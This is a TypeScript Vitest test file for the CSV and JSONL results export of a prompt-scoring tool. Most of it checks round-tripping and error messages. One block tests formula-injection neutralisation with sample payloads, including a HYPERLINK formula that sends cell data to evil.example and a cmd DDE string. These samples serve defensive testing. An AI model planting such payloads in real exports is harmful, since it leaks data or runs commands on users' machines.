import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { InputError } from '../../../src/core/errors.ts';
import { parsePromptSet } from '../../../src/core/io/promptSet.ts';
import {
  RESULT_CSV_COLUMNS, type ScoredRow, neutraliseCsvCell, parseResultsCsv, parseResultsJsonl, resultsToCsv, resultsToJsonl,
} from '../../../src/core/io/results.ts';

const ROWS: ScoredRow[] = [
  {
    line: 3, prompt: 'a photo of two red circles', tag: 'color_count', seed: 1234, imageIndex: 0, cfgScale: 1,
    reward: 0.6180339887498949, lowestWord: 'red', lowestP: 0.1234567890123,
    perToken: [{ word: 'a', p: 0.99 }, { word: 'photo', p: 0.999 }, { word: 'of', p: 1 }, { word: 'two', p: 0.5 }, { word: 'red', p: 0.1234567890123 }, { word: 'circles', p: 0.8 }],
    judgePass: false, judgeStrictPass: false, judgeReasons: ['expected 2 red circle, found 1', 'not asked for: small blue square at (30.0, 6.0)'],
  },
  {
    // A user's CSV category can hold commas, quotes and newlines; a prompt without a spec has no verdict.
    line: 7, prompt: 'a photo of a square', tag: 'mine, "quoted"\nsecond line', seed: 0, imageIndex: 3, cfgScale: 5,
    reward: 1e-7, lowestWord: 'square', lowestP: 1e-7,
    perToken: [{ word: 'a', p: 0.5 }, { word: 'photo', p: 0.5 }, { word: 'of', p: 0.5 }, { word: 'a', p: 0.5 }, { word: 'square', p: 1e-7 }, { word: '<eos>', p: 0.25 }],
    judgePass: null, judgeStrictPass: null, judgeReasons: [],
  },
  {
    line: 9, prompt: 'a photo of a circle', tag: null, seed: 2 ** 31 - 1, imageIndex: 1, cfgScale: 1.5,
    reward: 0.9, lowestWord: 'circle', lowestP: 0.9,
    perToken: [{ word: 'a', p: 0.9 }, { word: 'photo', p: 0.9 }, { word: 'of', p: 0.9 }, { word: 'a', p: 0.9 }, { word: 'circle', p: 0.9 }],
    judgePass: true, judgeStrictPass: true, judgeReasons: [],
  },
];

describe('resultsToCsv', () => {
  it('writes one header and one quoted row per result, per-token p in one "word:p" column', () => {
    const csv = resultsToCsv(ROWS);
    expect(csv.endsWith('\n')).toBe(true);
    const parsed = Papa.parse<string[]>(csv, { skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data[0]).toEqual([...RESULT_CSV_COLUMNS]);
    expect(parsed.data).toHaveLength(ROWS.length + 1);
    expect(parsed.data[1]).toEqual([
      '3', 'a photo of two red circles', 'color_count', '1234', '0', '0.6180339887498949', 'red', '0.1234567890123', 'false', 'false',
      'expected 2 red circle, found 1 | not asked for: small blue square at (30.0, 6.0)', 'a:0.99 photo:0.999 of:1 two:0.5 red:0.1234567890123 circles:0.8', '1',
    ]);
    expect(parsed.data[2][2]).toBe('mine, "quoted"\nsecond line');
    expect(parsed.data[2].slice(8, 11)).toEqual(['', '', '']);
    expect(csv).toContain('"mine, ""quoted""\nsecond line"');
  });

  it('rounds to the given significant digits for a readable copy', () => {
    const row = Papa.parse<string[]>(resultsToCsv(ROWS.slice(0, 1), { digits: 3 }), { skipEmptyLines: true }).data[1];
    expect([row[5], row[7], row[11]]).toEqual(['0.618', '0.123', 'a:0.99 photo:0.999 of:1 two:0.5 red:0.123 circles:0.8']);
  });

  it('reads an export made before the cfg_scale column as sampled without guidance (1)', () => {
    const old = Papa.unparse(Papa.parse<string[]>(resultsToCsv(ROWS), { skipEmptyLines: true }).data.map((r) => r.slice(0, -1)));
    expect(parseResultsCsv(old, 'old.csv').map((r) => r.cfgScale)).toEqual([1, 1, 1]);
    const oldJsonl = ROWS.map(({ cfgScale: _cfg, ...rest }) => `${JSON.stringify(rest)}\n`).join('');
    expect(parseResultsJsonl(oldJsonl, 'old.jsonl').map((r) => r.cfgScale)).toEqual([1, 1, 1]);
  });

  it('reads back to the same rows', () => {
    expect(parseResultsCsv(resultsToCsv(ROWS), 'r.csv')).toEqual(ROWS);
    expect(parseResultsCsv(`\uFEFF${resultsToCsv(ROWS).replace(/\n(?=\d|$)/g, '\r\n')}`, 'r.csv')).toEqual(ROWS);
  });

  it('is itself a prompt set: the same prompts and tags at rows 2.. (line is a column, not the file line)', () => {
    const set = parsePromptSet(resultsToCsv([ROWS[0], ROWS[2]]), 'results.csv');
    expect(set.format).toBe('csv');
    expect(set.rows.map((r) => [r.prompt, r.tag])).toEqual([['a photo of two red circles', 'color_count'], ['a photo of a circle', null]]);
  });
});

// OWASP's CSV injection rule: text cells that a spreadsheet would run as a formula are written with a
// leading apostrophe, read back to the original text; numeric cells are never touched.
describe('CSV export neutralises formulas', () => {
  const base = ROWS[2];
  const column = (name: (typeof RESULT_CSV_COLUMNS)[number]) => RESULT_CSV_COLUMNS.indexOf(name);
  const cases: [string, Partial<ScoredRow>, (typeof RESULT_CSV_COLUMNS)[number], string][] = [
    ['bad input: tag starting with = is written as text', { tag: '=HYPERLINK("https://evil.example/?x="&A1,"click")' }, 'tag', `'=HYPERLINK("https://evil.example/?x="&A1,"click")`],
    ['bad input: tag starting with + is written as text', { tag: '+1+cmd|\' /C calc\'!A0' }, 'tag', `'+1+cmd|' /C calc'!A0`],
    ['bad input: tag starting with - is written as text', { tag: '-2+3' }, 'tag', `'-2+3`],
    ['bad input: tag starting with @ is written as text', { tag: '@SUM(1+1)' }, 'tag', `'@SUM(1+1)`],
    ['bad input: tag starting with a tab is written as text', { tag: '\t=1+1' }, 'tag', `'\t=1+1`],
    ['bad input: tag starting with a carriage return is written as text', { tag: '\r=1+1' }, 'tag', `'\r=1+1`],
    ['bad input: tag that looks like a negative number is written as text', { tag: '-0.5' }, 'tag', `'-0.5`],
    ['bad input: prompt starting with = is written as text', { prompt: '=1+1' }, 'prompt', `'=1+1`],
    ['bad input: lowest word starting with @ is written as text', { lowestWord: '@x' }, 'lowest_word', `'@x`],
    ['bad input: judge reason starting with = is written as text', { judgeReasons: ['=1+1', 'ok'] }, 'judge_reasons', `'=1+1 | ok`],
    ['bad input: per-token word starting with + is written as text', { perToken: [{ word: '+x', p: 0.5 }] }, 'per_token', `'+x:0.5`],
    ['bad input: tag already starting with an apostrophe before = keeps it', { tag: `'=1+1` }, 'tag', `''=1+1`],
  ];

  it.each(cases)('%s', (_name, change, name, written) => {
    const row = { ...base, ...change };
    const csv = resultsToCsv([row]);
    expect(Papa.parse<string[]>(csv, { skipEmptyLines: true }).data[1][column(name)]).toBe(written);
    expect(parseResultsCsv(csv, 'r.csv')).toEqual([row]);
  });

  it('leaves numbers, negative ones included, and ordinary text alone', () => {
    const row = { ...base, seed: -7, reward: -0.5, lowestP: -1e-7, tag: "it's fine", prompt: 'a photo of a circle' };
    const cells = Papa.parse<string[]>(resultsToCsv([row]), { skipEmptyLines: true }).data[1];
    expect([cells[column('seed')], cells[column('reward')], cells[column('lowest_p')]]).toEqual(['-7', '-0.5', '-1e-7']);
    expect([cells[column('tag')], cells[column('prompt')]]).toEqual(["it's fine", 'a photo of a circle']);
    expect(neutraliseCsvCell("'hello")).toBe("'hello");
    expect(parseResultsCsv(resultsToCsv([row]), 'r.csv')).toEqual([row]);
  });
});

describe('resultsToJsonl', () => {
  it('writes one object per line and reads back to the same rows', () => {
    const jsonl = resultsToJsonl(ROWS);
    const lines = jsonl.split('\n');
    expect(lines).toHaveLength(ROWS.length + 1);
    expect(lines.at(-1)).toBe('');
    expect(JSON.parse(lines[1])).toEqual(ROWS[1]);
    expect(parseResultsJsonl(jsonl, 'r.jsonl')).toEqual(ROWS);
    expect(parseResultsJsonl(jsonl.replace(/\n/g, '\r\n'), 'r.jsonl')).toEqual(ROWS);
  });

  it('is itself a prompt set (plain JSONL: prompt and tag)', () => {
    const set = parsePromptSet(resultsToJsonl(ROWS), 'results.jsonl');
    expect(set.format).toBe('jsonl');
    expect(set.rows.map((r) => r.prompt)).toEqual(ROWS.map((r) => r.prompt));
  });
});

describe('reading results back', () => {
  it('names the file, line and field at fault', () => {
    const bad = resultsToJsonl(ROWS).replace('"judgePass":null', '"judgePass":"yes"');
    expect(() => parseResultsJsonl(bad, 'r.jsonl')).toThrow(new InputError('r.jsonl:2: judgePass: expected true, false or null, got "yes"'));
    expect(() => parseResultsJsonl('{"line": 1}\n', 'r.jsonl')).toThrow(/^r\.jsonl:1: prompt: expected a string, got undefined$/);
    expect(() => parseResultsJsonl('\n{oops\n', 'r.jsonl')).toThrow(/^r\.jsonl:2: not JSON/);
    const csv = resultsToCsv(ROWS).replace('0.6180339887498949', 'high');
    expect(() => parseResultsCsv(csv, 'r.csv')).toThrow(new InputError('r.csv: row 1: reward: expected a number, got "high"'));
    expect(() => parseResultsCsv(resultsToCsv(ROWS).replace('red:0.1234567890123', 'red'), 'r.csv')).toThrow(/^r\.csv: row 1: perToken: expected \{word, p\} at index 4/);
    expect(() => parseResultsCsv('line,prompt\n1,a\n', 'r.csv')).toThrow(/^r\.csv: missing result columns tag, seed,/);
  });
});
